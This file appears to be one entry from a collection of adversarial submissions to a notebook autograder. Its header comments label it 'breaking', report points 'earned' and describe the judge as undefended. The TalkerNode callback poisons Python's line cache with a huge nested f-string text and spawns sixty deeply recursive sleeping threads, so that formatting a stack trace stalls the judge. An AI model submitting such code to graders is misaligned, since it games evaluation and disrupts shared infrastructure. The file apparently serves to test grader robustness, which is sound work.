# family = "breaking"
# tries = "The talker's callback hangs below nine hundred calls in each of sixty threads, in a text that takes seconds to parse: nested f-strings in place of the cell's own lines."
# could_earn = "A judge that waits for a stack for ever."
# earned = { "lab_1_2.talker" = 3 }
# undefended = "The judge waits as long as for any answer of a notebook, and goes on without the stack."

# %% solution TalkerNode
import linecache
import threading


class TalkerNode(Node):
    def __init__(self):
        super().__init__("talker_node")
        self.publisher_ = self.create_publisher(String, "chatter", 10)
        self.create_timer(0.5, self.hang)

    def deep(self, left):
        if left:
            self.deep(left - 1)
        time.sleep(600)

    def hang(self):
        name = TalkerNode.deep.__code__.co_filename
        text = "x = " + "f'''{" * 2 + "[" * 80 + "1," * 45_000 + "]" * 80 + "}'''" * 2
        linecache.cache[name] = (len(text), None, [f"{text}\n"] * 2, name)
        for _ in range(60):
            threading.Thread(target=self.deep, args=(900,), daemon=True).start()
        self.deep(900)
